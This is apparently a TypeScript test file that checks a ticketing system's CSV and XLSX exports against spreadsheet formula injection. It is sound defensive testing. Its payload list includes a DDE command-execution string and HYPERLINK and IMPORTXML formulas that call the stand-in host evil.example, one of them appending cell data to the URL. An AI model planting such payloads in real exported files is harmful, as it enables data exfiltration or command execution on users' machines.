import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { exported, readCsv, readXlsx, unzip } from '../../test/exports.ts';
import { useWorld } from '../../test/harness.ts';
import { minutesAfterNoon, noon } from '../../test/world.ts';
import type { CellKind } from './columns.ts';
import { xlsx } from './xlsx.ts';

const world = useWorld();

/** Texts that spreadsheets may evaluate as formulas. */
const injections = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?"&A1,"click")',
  '=IMPORTXML("http://evil.example","//a")',
  '＝1+1',
  'Ana;=1+1',
  'Ana; "=1+1',
  '"=1+1',
  "a'=b",
  '-',
  ';-1',
  ' =1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\u2003=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  'Ana;\u200b=1+1',
];
const innocent = ['Ana Souza', 'ana=b', 'a+b@test.test', '12-34', "O'Brien", 'A; B', 'x;y', '2º lote', '<b>&"', '😀', '_x0041_'];

/** Returns cells that a spreadsheet would evaluate as formulas. Some locales separate cells by semicolons, so each cell is split again. */
function formulasIn(text: string): string[] {
  const formulaStart = /^[\s"\u200b\ufeff]*[=+@\-\t\r\n＝＋－＠]/;
  const isNumber = /^-?\d+(\.\d+)?$/;
  const splitAgain = (cell: string) => [cell, ...cell.split(';').slice(1)];
  return readCsv(text).flatMap((row) =>
    row.flatMap(splitAgain).filter((cell) => formulaStart.test(cell) && !isNumber.test(cell) && !cell.startsWith('"')),
  );
}

/** Inserts an order, a ticket, a code and a passkey with this text in every text field. */
async function insertEverywhere(text: string): Promise<void> {
  await world.pool.query(
    `with i as (insert into item (event_id, type, name, description, position, hidden, salable, created_at, updated_at)
                values ($1, 'ticket', $2, '', 0, false, true, now(), now()) returning id),
     s as (insert into event_session (event_id, name, starts_at, finishes_at) values ($1, $2, now(), now() + interval '1 hour') returning id),
     k as (insert into passkey (event_id, code, created_at, updated_at) values ($1, $2 || '!!!', now(), now()) returning id),
     o as (insert into ticket_order (event_id, id, status, app_category_id, passkey_id, buyer_name, buyer_email, buyer_document, total,
                                     currency, secret_hash, created_at, expires_at, approved_at)
           select $1, nextval('ticket_order_id'), 'approved', 1, k.id, $2, $2, $2, 0, 'BRL', '', now(), now(), now() from k returning id),
     l as (insert into order_line (event_id, order_id, item_id, session_ids, quantity, price, fee_sale, fee_producer, unlocked)
           select $1, o.id, i.id, array[s.id], 1, 0, 0, 0, false from o, i, s),
     t as (insert into ticket (event_id, order_id, item_id, session_ids, holder, created_at) select $1, o.id, i.id, array[s.id], $2, now() from o, i, s)
     insert into external_code (event_id, item_id, code, holder_name, holder_document, created_at)
     select $1, i.id, $2 || o.id, $2, $2, now() from o, i`,
    [world.event, text],
  );
}

const lists = ['transactions', 'guestlist', 'passkey'] as const;
let minute = 0;

/** Exports every list. Moves the clock first, so that the requests create new exports instead of returning earlier ones. */
async function exportAll(format: 'csv' | 'xlsx'): Promise<Buffer[]> {
  world.now = minutesAfterNoon((minute += 2));
  const files: Buffer[] = [];
  for (const type of lists) {
    files.push((await exported(world, { body: { type, format, ...(type === 'passkey' && { filters: [{ status: 'all' }] }) } })).file);
  }
  world.now = noon;
  return files;
}

describe('formula injection', () => {
  it('a CSV file has no cell that a spreadsheet would evaluate as a formula', async () => {
    for (const text of [...injections, ...innocent]) await insertEverywhere(text);
    const files = await exportAll('csv');
    for (const file of files) expect(formulasIn(file.toString())).toEqual([]);
    const [transactions = ''] = files.map(String);
    for (const text of innocent) expect(transactions).toContain(text.replaceAll('"', '""'));

    // Control: without csv_text, formulasIn finds formulas.
    await world.pool.query('alter function csv_text(text) rename to csv_text_guarded');
    await world.pool.query('create function csv_text(cell text) returns text language sql immutable return cell');
    for (const file of await exportAll('csv')) expect(formulasIn(file.toString()).length).toBeGreaterThan(5);
    await world.pool.query('drop function csv_text(text)');
    await world.pool.query('alter function csv_text_guarded(text) rename to csv_text');
  });

  it('an XLSX file has only text cells, and cells that look like formulas have a style that keeps them text when edited', async () => {
    for (const file of await exportAll('xlsx')) {
      for (const [name, bytes] of unzip(file)) {
        expect(bytes.toString(), name).not.toMatch(/<f[\s>/]|t="(str|e|b|s)"|DDE|externalLink/);
      }
      const [rows = []] = readXlsx(file);
      const texts = rows.slice(1).flatMap((row) => row.flatMap(({ text, style }) => (text === null ? [] : [{ text, style }])));
      const risky = texts.filter(({ text }) => /^[=+\-@\t\r\n]/.test(text));
      expect(risky.length).toBeGreaterThan(0);
      // Style 3 has quotePrefix. With it a cell remains text when a user edits the cell.
      expect(risky.filter(({ style }) => style !== 3)).toEqual([]);
    }
  });
});

const kinds: CellKind[] = ['text', 'number', 'money', 'time', 'word'];
const copyLine = (cells: (string | null)[]) =>
  `${cells.map((cell) => (cell === null ? '\\N' : cell.replaceAll('\\', '\\\\').replaceAll('\t', '\\t').replaceAll('\n', '\\n').replaceAll('\r', '\\r'))).join('\t')}\n`;

async function workbook(lines: Buffer[], rowsPerSheet?: number): Promise<Buffer> {
  const chunks: Buffer[] = [];
  const source = async function* () {
    yield* lines;
  };
  const sheet = { title: 'test', header: kinds, kinds, lines: source(), ...(rowsPerSheet && { rowsPerSheet }) };
  for await (const chunk of xlsx(sheet)) chunks.push(chunk);
  return Buffer.concat(chunks);
}

describe('xlsx', () => {
  it('keeps any text unchanged, for any chunk size and any number of rows per sheet', async () => {
    const text = fc.string({ unit: 'binary' }).map((s) => s.replaceAll('\0', ''));
    const rows = fc.array(fc.tuple(fc.option(text), fc.integer(), text), { maxLength: 20 });
    await fc.assert(
      fc.asyncProperty(rows, fc.integer({ min: 1, max: 50 }), fc.integer({ min: 2, max: 7 }), async (typed, size, rowsPerSheet) => {
        const bytes = Buffer.from(typed.map(([a, n, b]) => copyLine([a, String(n), '1.50', '46083.5', b])).join(''));
        const chunks = Array.from({ length: Math.ceil(bytes.length / size) }, (_, i) => bytes.subarray(i * size, (i + 1) * size));
        const sheets = readXlsx(await workbook(chunks, rowsPerSheet));
        expect(sheets.map((sheet) => sheet[0]?.map(({ text }) => text))).toEqual(sheets.map(() => kinds));
        const read = sheets.flatMap((sheet) => sheet.slice(1).map((row) => row.map(({ text, number }) => text ?? number)));
        expect(read).toEqual(typed.map(([a, n, b]) => [a, n, 1.5, 46083.5, b]));
        for (const sheet of sheets) expect(sheet.length).toBeLessThanOrEqual(rowsPerSheet);
      }),
      { numRuns: 60 },
    );
  });

  it('writes one sheet with only the header if there are no rows', async () => {
    expect(readXlsx(await workbook([])).map((sheet) => sheet.length)).toEqual([1]);
  });

  it('fails if its source fails', async () => {
    const broken = async function* (): AsyncGenerator<Buffer> {
      yield Buffer.from(copyLine(['a', '1', '1.00', '1', 'b']));
      throw new Error('broken off');
    };
    const drain = async () => {
      for await (const _ of xlsx({ title: 'test', header: kinds, kinds, lines: broken() }));
    };
    await expect(drain()).rejects.toThrow('broken off');
  });

  it('closes its source when the reader stops early', async () => {
    let closed = false;
    const endless = async function* (): AsyncGenerator<Buffer> {
      try {
        for (;;) yield Buffer.from(copyLine(['a', '1', '1.00', '1', 'b']));
      } finally {
        closed = true;
      }
    };
    for await (const _ of xlsx({ title: 'test', header: kinds, kinds, lines: endless() })) break;
    expect(closed).toBe(true);
  });
});
